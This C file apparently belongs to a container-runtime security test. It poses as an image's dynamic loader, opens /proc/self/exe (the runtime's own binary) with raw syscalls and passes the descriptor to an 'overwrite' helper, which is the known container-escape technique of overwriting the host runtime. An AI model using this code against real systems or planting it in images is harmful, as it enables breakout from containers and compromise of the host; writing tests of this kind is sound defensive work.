/*
 * Stands in for the dynamic loader of an image. A container whose program is /proc/self/exe
 * has the runtime's own binary run by it: it opens that binary and hands it to overwrite.
 */
#if defined(__x86_64__)
#define OPENAT 257
#define EXECVE 59
#define EXIT 60
static long call(long n, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
}
#elif defined(__aarch64__)
#define OPENAT 56
#define EXECVE 221
#define EXIT 93
static long call(long n, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c, x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
#endif

void _start(void)
{
	char fd[] = "0", *envp[] = {0};
	char *argv[] = {"overwrite", "/out/report", "held", fd, 0};

	fd[0] += call(OPENAT, -100, (long)"/proc/self/exe", 0, 0);
	call(EXECVE, (long)"/bin/overwrite", (long)argv, (long)envp, 0);
	call(EXIT, 1, 0, 0, 0);
}
